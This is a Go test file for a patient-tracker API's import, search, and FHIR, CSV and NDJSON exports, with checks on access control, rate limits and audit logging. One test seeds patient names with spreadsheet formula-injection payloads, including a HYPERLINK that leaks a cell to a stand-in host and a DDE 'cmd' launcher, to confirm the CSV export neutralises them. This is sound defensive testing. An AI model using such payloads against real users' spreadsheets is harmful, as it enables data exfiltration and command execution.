package api_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"patienttracker/handler/api"
	"patienttracker/handler/audit"
	"patienttracker/handler/fhir"
	"patienttracker/handler/importer"
)

// importSynthea loads ../shared/testdata/real/synthea-csv into e's database directly.
func importSynthea(t *testing.T, e *env) {
	t.Helper()
	dir := realData(t, "synthea-csv")
	runner := &importer.Runner{DB: e.db, Now: e.clock.Now, Location: time.UTC}
	_, err := runner.RunLocal(context.Background(), audit.System("test", ""), importer.Plan{
		Kind: importer.KindSynthea, Files: []importer.LocalFile{
			{Path: filepath.Join(dir, "patients.csv"), Role: importer.RolePatients},
			{Path: filepath.Join(dir, "encounters.csv"), Role: importer.RoleEncounters}}})
	if err != nil {
		t.Fatal(err)
	}
}

// testBL05 walks the imported patients through the real search API sorted by birth date
// (pages of 2, then 1) and by name: 27 distinct each time, total 27, and the three born
// 1973-10-28 exactly once.
func testBL05(t *testing.T, e *env) {
	for _, walk := range []struct {
		sort  string
		limit int
	}{{"birthDate", 2}, {"birthDate", 1}, {"name", 2}, {"-birthDate", 2}} {
		seen, born1973 := map[string]int{}, 0
		cursor := ""
		for pages := 0; pages < 100; pages++ {
			body := map[string]any{"sort": walk.sort, "limit": walk.limit}
			if cursor != "" {
				body["cursor"] = cursor
			}
			res := e.do(req{user: "u-admin", method: "POST", path: "/api/patients/search",
				body: body})
			if res.status != http.StatusOK {
				t.Fatalf("search: %d %s", res.status, res.body)
			}
			var page struct {
				Items []struct {
					ID        string `json:"id"`
					BirthDate string `json:"birthDate"`
				} `json:"items"`
				NextCursor *string `json:"nextCursor"`
				Total      int     `json:"total"`
			}
			_ = json.Unmarshal(res.body, &page)
			if page.Total != 27 {
				t.Errorf("%s/%d: total %d", walk.sort, walk.limit, page.Total)
			}
			for _, it := range page.Items {
				seen[it.ID]++
				if it.BirthDate == "1973-10-28" {
					born1973++
				}
			}
			if page.NextCursor == nil {
				break
			}
			cursor = *page.NextCursor
		}
		dups := 0
		for _, n := range seen {
			dups += n - 1
		}
		if len(seen) != 27 || dups != 0 || born1973 != 3 {
			t.Errorf("%s/%d: %d distinct, %d repeated, %d born 1973-10-28", walk.sort,
				walk.limit, len(seen), dups, born1973)
		}
	}
}

// testBL04 reads every imported visit back through the API: each start is the same
// instant as START in encounters.csv, written in RFC 3339.
func testBL04(t *testing.T, e *env, encounters []byte) {
	rows, err := csv.NewReader(bytes.NewReader(encounters)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]time.Time{}
	for _, r := range rows[1:] {
		ts, _ := time.Parse(time.RFC3339, r[1])
		want[r[0]] = ts
	}
	conn := e.conn()
	dbRows, err := conn.Query(context.Background(),
		"SELECT id::text, source_value FROM visits WHERE source_system = 'urn:synthea:encounter'")
	if err != nil {
		t.Fatal(err)
	}
	source := map[string]string{}
	for dbRows.Next() {
		var id, src string
		_ = dbRows.Scan(&id, &src)
		source[id] = src
	}
	checked := 0
	for id, src := range source {
		res := e.do(req{user: "u-admin", method: "GET", path: "/api/visits/" + id})
		var v struct {
			Start string `json:"start"`
		}
		_ = json.Unmarshal(res.body, &v)
		got, err := time.Parse(time.RFC3339Nano, v.Start)
		if err != nil || !got.Equal(want[src]) {
			t.Fatalf("visit %s: start %q, want %s", src, v.Start, want[src].Format(time.RFC3339))
		}
		checked++
	}
	if checked != 604 {
		t.Errorf("checked %d visits, want 604", checked)
	}
}

// TestExportPatientBundle exports a Synthea patient as a FHIR Bundle: it validates
// structurally, and importing it back matches the same patient and visits.
func TestExportPatientBundle(t *testing.T) {
	e := newEnv(t)
	importSynthea(t, e)
	var id string
	if err := e.conn().QueryRow(context.Background(), `SELECT id::text FROM patients
	    WHERE given_names = 'Gene733'`).Scan(&id); err != nil {
		t.Fatal(err)
	}
	res := e.do(req{user: "u-admin", method: "GET", path: "/api/patients/" + id + "/fhir"})
	if res.status != http.StatusOK ||
		!strings.HasPrefix(res.header.Get("Content-Type"), "application/fhir+json") {
		t.Fatalf("export: %d %s", res.status, res.header.Get("Content-Type"))
	}
	if problems := fhir.ValidateBundle(res.body); len(problems) > 0 {
		t.Fatalf("bundle invalid:\n%s", strings.Join(problems, "\n"))
	}
	var b fhir.Bundle
	_ = json.Unmarshal(res.body, &b)
	visits := e.count("SELECT count(*) FROM visits WHERE patient_id = $1", id)
	if len(b.Entry) != 1+visits {
		t.Errorf("%d entries, want 1 + %d", len(b.Entry), visits)
	}
	if n := e.count(`SELECT count(*) FROM audit_log WHERE action = 'export.fhir_patient'
	    AND patient_id = $1 AND detail->>'visits' = $2`, id, strconv.Itoa(visits)); n != 1 {
		t.Errorf("export audit rows with counts: %d", n)
	}

	path := filepath.Join(t.TempDir(), "bundle.json")
	_ = os.WriteFile(path, res.body, 0o600)
	runner := &importer.Runner{DB: e.db, Now: e.clock.Now, Location: time.UTC}
	job, err := runner.RunLocal(context.Background(), audit.System("test", ""),
		importer.Plan{Kind: importer.KindBundle,
			Files: []importer.LocalFile{{Path: path, Role: importer.RoleBundle}}})
	if err != nil {
		t.Fatal(err)
	}
	p := job.Progress
	if p.PatientsMatched != 1 || p.PatientsCreated != 0 || p.VisitsMatched != int64(visits) ||
		p.VisitsCreated != 0 || p.RowsRejected != 0 {
		t.Errorf("re-import of the export: %+v", p)
	}
	if n := e.count("SELECT count(*) FROM patients"); n != 27 {
		t.Errorf("patients after re-import = %d", n)
	}

	res = e.do(req{user: "u-clin", method: "GET", path: "/api/patients/" + id + "/fhir"})
	if res.status != http.StatusForbidden {
		t.Errorf("clinician export: %d", res.status)
	}
	res = e.do(req{user: "u-admin", method: "GET",
		path: "/api/patients/" + uuid.NewString() + "/fhir"})
	if res.status != http.StatusNotFound {
		t.Errorf("export of a random id: %d", res.status)
	}
}

// v15Names are the formula-looking names of V15 that the name rules let through (tab
// and carriage return are control characters, refused with 422).
var v15Names = []string{`=HYPERLINK("http://x.test/?"&A1,"click")`, `+cmd|' /C calc'!A0`,
	`@SUM(1+1)`, `-2+3`}

// TestExportCSVV15 replays V15 on the CSV export: every field quoted, dangerous cells
// prefixed with an apostrophe, and encoding/csv reads back the apostrophe and then the
// literal text.
func TestExportCSVV15(t *testing.T) {
	e := newEnv(t)
	for _, n := range v15Names {
		e.createPatient(n, "Formula", "1980-01-02")
	}
	res := e.do(req{user: "u-admin", method: "POST", path: "/api/exports",
		body: map[string]any{"format": "csv"}})
	if res.status != http.StatusOK {
		t.Fatalf("export: %d %s", res.status, res.body)
	}
	lines := strings.Split(strings.TrimSuffix(string(res.body), "\r\n"), "\r\n")
	for _, l := range lines {
		if !strings.HasPrefix(l, `"`) || !strings.HasSuffix(l, `"`) {
			t.Errorf("a line with an unquoted field: %s", l)
		}
	}
	rows, err := csv.NewReader(bytes.NewReader(res.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, r := range rows[1:] {
		if r[3] != "Formula" {
			continue
		}
		if !strings.HasPrefix(r[2], "'") {
			t.Errorf("cell %q is not neutralised", r[2])
		}
		got[strings.TrimPrefix(r[2], "'")] = true
		if r[0] == "" || strings.ContainsAny(r[0][:1], "=+-@") {
			t.Errorf("id cell %q", r[0])
		}
	}
	for _, n := range v15Names {
		if !got[n] {
			t.Errorf("name %q did not read back literally", n)
		}
	}
	if n := e.count(`SELECT count(*) FROM audit_log WHERE action = 'export.csv'
	    AND detail->>'patients' = '4'`); n != 1 {
		t.Errorf("csv export audit rows with count: %d", n)
	}
}

// TestNeutralizeCell covers the six leading characters of V15, tab and CR included.
func TestNeutralizeCell(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-2+3", "'-2+3"}, {"@SUM(1)", "'@SUM(1)"},
		{"\t=1+1", "'\t=1+1"}, {"\r=1+1", "'\r=1+1"}, {"Ann", "Ann"}, {"", ""},
		{"O'Brien", "O'Brien"}, {"a=b", "a=b"},
	} {
		if got := api.NeutralizeCell(c.in); got != c.want {
			t.Errorf("NeutralizeCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestExportNDJSONL3 exports the clinic as NDJSON (one resource per line, patients then
// encounters), then replays L3: non-admins 403, an admin's tenth export in a minute 429.
func TestExportNDJSONL3(t *testing.T) {
	e := newEnv(t)
	importSynthea(t, e)
	res := e.do(req{user: "u-admin", method: "POST", path: "/api/exports",
		body: map[string]any{"format": "ndjson"}})
	if res.status != http.StatusOK {
		t.Fatalf("export: %d %s", res.status, res.body)
	}
	types := map[string]int{}
	sc := bufio.NewScanner(bytes.NewReader(res.body))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var head struct {
			ResourceType string `json:"resourceType"`
		}
		if err := json.Unmarshal(sc.Bytes(), &head); err != nil {
			t.Fatalf("line is not JSON: %v", err)
		}
		types[head.ResourceType]++
	}
	if types["Patient"] != 27 || types["Encounter"] != 604 || len(types) != 2 {
		t.Errorf("resource counts %v", types)
	}
	for _, user := range []string{"u-clin", "u-front", "u-analyst"} {
		res := e.do(req{user: user, method: "POST", path: "/api/exports",
			body: map[string]any{"format": "csv"}})
		if res.status != http.StatusForbidden {
			t.Errorf("%s export: %d", user, res.status)
		}
	}
	limited := 0
	for i := 0; i < 10; i++ {
		res := e.do(req{user: "u-admin", method: "POST", path: "/api/exports",
			body: map[string]any{"format": "csv"}})
		if res.status == http.StatusTooManyRequests {
			limited++
			if res.header.Get("Retry-After") == "" {
				t.Errorf("429 without Retry-After")
			}
		}
	}
	if limited == 0 {
		t.Errorf("ten exports in a minute were never rate-limited")
	}
	if n := e.count(`SELECT count(*) FROM audit_log WHERE action = 'export.ndjson'
	    AND detail->>'patients' = '27' AND detail->>'visits' = '604'`); n != 1 {
		t.Errorf("ndjson export audit rows with counts: %d", n)
	}
}
